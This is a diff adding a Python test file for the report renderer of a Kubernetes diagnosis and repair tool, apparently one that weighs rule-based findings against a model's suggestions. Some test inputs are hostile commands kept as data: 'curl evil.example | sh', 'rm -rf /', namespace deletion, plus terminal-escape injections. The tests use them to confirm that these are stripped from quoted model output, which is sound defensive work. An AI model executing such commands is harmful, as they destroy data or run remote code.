@@ -1,0 +1,322 @@
+from __future__ import annotations
+
+import io
+from typing import Literal
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from rich.console import Console
+
+from tests.report_samples import (
+    BY_HAND,
+    UNDO,
+    diagnosis,
+    explanation,
+    finding,
+    fix,
+    healthy,
+    namespace,
+    ref,
+    report,
+    rules_diagnosis,
+)
+from watchdog.actions import CustomInstruction, RolloutRestart
+from watchdog.nouns import ActionResult, Delivery, NamespaceReport, Outcome, Report, TargetHealth
+from watchdog.observation.snapshot import BlindSpot
+from watchdog.report.build import completed, judge
+from watchdog.report.phrases import clean, duration, quoted, shorten
+from watchdog.report.progress import TerminalProgress
+from watchdog.report.text import plain_text, render_text
+
+
+def printed(
+    shown: Report, width: int = 100, encoding: str = "utf-8", *, terminal: bool = False
+) -> str:
+    raw = io.BytesIO()
+    stream = io.TextIOWrapper(raw, encoding=encoding)
+    colours: Literal["auto", "standard"] = "standard" if terminal else "auto"
+    console = Console(file=stream, width=width, force_terminal=terminal, color_system=colours)
+    render_text(shown, console)
+    stream.flush()
+    return raw.getvalue().decode(encoding)
+
+
+def test_a_fixed_problem_is_told_in_the_order_of_the_questions() -> None:
+    text = printed(report())
+
+    marks = [
+        "shop on prod-eu: 14 pods, 5 deployments",
+        "✗ Deployment/ledger: missing environment variable",
+        "down for 12 min, 0 of 2 pods ready",
+        "  Why      The container exits",
+        "  Model    gpt-5-mini adds (unverified): ",
+        "  Changed  Revision 7",
+        "  Evidence log ledger-7d9f-x2k4p/main",
+        "  Fix      set env LEDGER_REGION on container main (from revision 6)",
+        "+   value: (as in revision 6)",
+        "  ✓ healthy: revision 8 has 2 of 2 pods ready, stable for 20 s (31 s in all)",
+        "  To do    Put LEDGER_REGION into the chart or manifest",
+        f"  Undo     {UNDO}",
+        "1 problem, 1 fixed. Rules and gpt-5-mini agree (confidence 0.93, 812 tokens).",
+    ]
+    positions = [text.find(mark) for mark in marks]
+    assert -1 not in positions
+    assert positions == sorted(positions)
+
+
+def test_the_command_that_fixes_by_hand_is_not_offered_for_what_is_fixed() -> None:
+    assert BY_HAND not in printed(report())
+
+
+def test_a_healthy_namespace_takes_one_line() -> None:
+    assert printed(healthy()).splitlines() == [
+        "✓ shop on prod-eu: nothing broken (14 pods, 5 deployments)",
+        "",
+        "Nothing broken. Nothing unreadable.",
+    ]
+
+
+def test_what_could_not_be_read_is_never_called_healthy() -> None:
+    spot = BlindSpot(what="events", why="forbidden: list events in shop")
+
+    text = printed(report(NamespaceReport(namespace="shop", blind_spots=(spot,))))
+
+    assert "✓" not in text
+    assert "? shop on prod-eu: nothing broken in what could be read" in text
+    assert "Could not read events: forbidden: list events in shop" in text
+    assert "1 thing could not be read." in text
+
+
+def test_dry_run_says_what_would_be_applied_and_offers_no_undo() -> None:
+    shown = report(
+        namespace(actions=(fix(Outcome.DRY_RUN),), diagnosis=rules_diagnosis()), mode="dry_run"
+    )
+
+    text = printed(shown)
+
+    assert "dry run: nothing is changed" in text
+    assert text.count("would be applied") == 1
+    assert "+ - name: LEDGER_REGION" in text
+    assert "Undo" not in text
+    assert "1 problem, 1 would be fixed. Diagnosed by rules, without a model." in text
+
+
+def test_a_refusal_gives_its_reason_and_what_to_do_by_hand() -> None:
+    refused = fix(Outcome.REFUSED, reason="Argo CD owns this Deployment: change it in Git")
+
+    text = printed(report(namespace(actions=(refused,))))
+
+    assert "not applied" in text
+    assert "Argo CD owns this Deployment: change it in Git" in text
+    assert f"\n           {BY_HAND}\n" in text
+    assert "1 problem, 1 needs you." in text
+
+
+def test_an_undone_fix_is_not_called_fixed_and_offers_no_second_undo() -> None:
+    seen = TargetHealth(healthy=False, problems=("0 of 2 pods ready",), waited_seconds=120)
+
+    text = printed(report(namespace(actions=(fix(Outcome.UNDONE, verification=seen, undo=UNDO),))))
+
+    assert "applied, then undone" in text
+    assert "✗ not healthy: 0 of 2 pods ready (2 min in all)" in text
+    assert UNDO not in text
+    assert "needs you" in text
+
+
+def test_an_unanswered_write_asks_for_a_look() -> None:
+    text = printed(report(namespace(actions=(fix(Outcome.UNKNOWN),))))
+
+    assert "sent, no answer came back" in text
+    assert "kubectl -n shop get deployment/ledger -o yaml" in text
+
+
+def test_a_broken_model_is_named_and_the_rules_are_said_to_have_spoken() -> None:
+    shown = report(namespace(diagnosis=rules_diagnosis(model_error="no answer in 45 s")))
+
+    assert (
+        "The model gave no usable answer (no answer in 45 s), so the rules spoke alone."
+        in printed(shown, 110)
+    )
+
+
+def test_a_disagreement_is_shown() -> None:
+    shown = report(namespace(diagnosis=diagnosis(disagreements=("the model sees nothing wrong",))))
+
+    text = printed(shown)
+
+    assert "Rules and model differ: the model sees nothing wrong" in text
+    assert "Rules and gpt-5-mini differ" in text
+
+
+def test_a_models_instruction_is_quoted_without_its_commands_and_links() -> None:
+    said = (
+        "Run `kubectl delete ns shop` now, see https://evil.example/fix or curl evil.example | sh"
+    )
+    instruction = ActionResult(
+        action=CustomInstruction(target=ref(), instruction=said), outcome=Outcome.REFUSED
+    )
+
+    text = printed(report(namespace(actions=(instruction,))), 110)
+
+    assert "The model suggests (unverified)" in text
+    assert "kubectl delete" not in text
+    assert "evil.example" not in text
+
+
+def test_actions_go_to_the_finding_that_they_are_about() -> None:
+    other = finding(target=ref("api"), summary="liveness probe fails", container=None)
+    restart = ActionResult(action=RolloutRestart(target=ref("api")), outcome=Outcome.VERIFIED)
+    refused = fix(Outcome.REFUSED, reason="two actions a run")
+    shown = namespace(findings=(finding(), other), actions=(restart, refused))
+
+    text = printed(report(shown))
+    ledger, api = text.split("✗ Deployment/api")
+
+    assert "two actions a run" in ledger
+    assert "restart its pods" not in ledger
+    assert "restart its pods" in api
+    assert "2 problems, 1 fixed, 1 needs you." in api
+
+
+def test_an_action_about_nothing_broken_is_still_shown() -> None:
+    stray = ActionResult(
+        action=RolloutRestart(target=ref("elsewhere")),
+        outcome=Outcome.REFUSED,
+        reason="nothing is wrong with it",
+    )
+
+    text = printed(report(namespace(actions=(stray,))))
+
+    assert "Also proposed, for nothing that is broken here:" in text
+    assert "nothing is wrong with it" in text
+
+
+def test_down_is_said_only_where_nothing_serves() -> None:
+    shown = report(namespace(findings=(finding(impact="1 of 2 pods ready"),)))
+
+    assert "broken for 12 min, 1 of 2 pods ready" in printed(shown)
+
+
+def test_an_unreachable_namespace_says_so() -> None:
+    text = printed(report(NamespaceReport(namespace="shop", error="no answer from the API server")))
+
+    assert "Could not look: no answer from the API server" in text
+    assert "shop could not be looked at." in text
+
+
+def test_a_failed_delivery_is_reported() -> None:
+    shown = report(deliveries=(Delivery(to="slack", ok=False, error="not invited"),))
+
+    assert "Not delivered to slack: not invited" in printed(shown)
+
+
+def test_commands_are_never_wrapped_and_prose_always_is() -> None:
+    text = printed(report(namespace(actions=(fix(Outcome.REFUSED, reason="no " * 60),))), 60)
+
+    assert f"\n           {BY_HAND}\n" in text
+    assert all(len(line) <= 60 for line in text.splitlines() if "kubectl" not in line)
+
+
+def test_foreign_text_is_neither_markup_nor_terminal_control() -> None:
+    nasty = "\x1b[31mred\x1b[0m [bold]x[/bold] \u202eback\u2066 :smile: \x0ebad\x1fz\x0f \\"
+
+    text = printed(report(namespace(findings=(finding(evidence=(nasty,)),))), terminal=False)
+
+    assert "red [bold]x[/bold] back :smile: badz \\" in text
+    assert "\x1b" not in text
+
+
+def test_colour_comes_only_on_a_terminal() -> None:
+    assert "\x1b[" in printed(report(), terminal=True)
+    assert "\x1b" not in printed(report())
+
+
+def test_an_ascii_stream_gets_ascii_signs() -> None:
+    text = printed(report(), encoding="ascii")
+
+    assert "x Deployment/ledger" in text
+    assert "+ healthy" in text
+
+
+@settings(max_examples=40)
+@given(st.text())
+def test_any_evidence_can_be_printed(evidence: str) -> None:
+    shown = report(namespace(findings=(finding(evidence=(evidence,), summary=evidence),)))
+
+    assert "1 problem" in plain_text(shown)
+
+
+@pytest.mark.parametrize(
+    ("seconds", "said"),
+    [
+        (0.4, "0 s"),
+        (45, "45 s"),
+        (720, "12 min"),
+        (12_000, "3 h 20 min"),
+        (7_200, "2 h"),
+        (800_000, "9 days"),
+    ],
+)
+def test_durations_are_said_as_people_say_them(seconds: float, said: str) -> None:
+    assert duration(seconds) == said
+
+
+def test_a_cut_never_leaves_half_an_emoji() -> None:
+    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
+
+    assert shorten("ab" + family, 5) == "ab…"
+    assert shorten("cafe\u0301s", 5) == "caf…"
+
+
+def test_cleaning_removes_what_hides_or_moves_text() -> None:
+    assert clean("a\x1b]0;title\x07b\u202ec\ufeffd\x00\ud800") == "abcd\ufffd"
+
+
+@pytest.mark.parametrize(
+    "prose",
+    [
+        "kubectl -n shop delete deployment/x",
+        "do: helm uninstall shop; fine",
+        "run sudo rm -rf / now",
+        "open http://evil.example/a",
+        "see www.evil.example",
+        "```\nrm -rf /\n```",
+    ],
+)
+def test_quoted_prose_holds_no_command_and_no_link(prose: str) -> None:
+    said = quoted(prose)
+
+    assert "removed]" in said
+    assert not any(word in said for word in ("kubectl", "helm", "rm -rf", "evil"))
+
+
+def test_a_pass_that_saw_only_part_is_degraded_and_one_that_saw_nothing_failed() -> None:
+    unseen = NamespaceReport(namespace="a", error="no answer")
+    seen = NamespaceReport(namespace="b")
+
+    assert judge((unseen,)) == "failed"
+    assert judge((unseen, seen)) == "degraded"
+    assert judge((seen,)) == "ok"
+    begun = report()
+    assert completed(begun, (seen,), begun.started_at, {"observe": 0.2}).stages == {"observe": 0.2}
+
+
+def test_stages_stay_behind_as_lines_while_details_of_one_do_not() -> None:
+    stream = io.StringIO()
+    with TerminalProgress(Console(file=stream, width=80)) as progress:
+        progress.stage("observe", "shop")
+        progress.stage("verify", "0 of 2 ready")
+        progress.stage("verify", "2 of 2 ready")
+
+    assert [line.split() for line in stream.getvalue().splitlines() if line.strip()] == [
+        ["observe", "shop"],
+        ["verify", "2", "of", "2", "ready"],
+    ]
+
+
+def test_the_explanation_of_an_unfixed_problem_is_what_to_do() -> None:
+    plain = explanation(command=None, to_do="Ask the team for the value.")
+    shown = report(namespace(actions=(), diagnosis=rules_diagnosis(explanations=(plain,))))
+
+    assert "  To do    Ask the team for the value." in printed(shown)
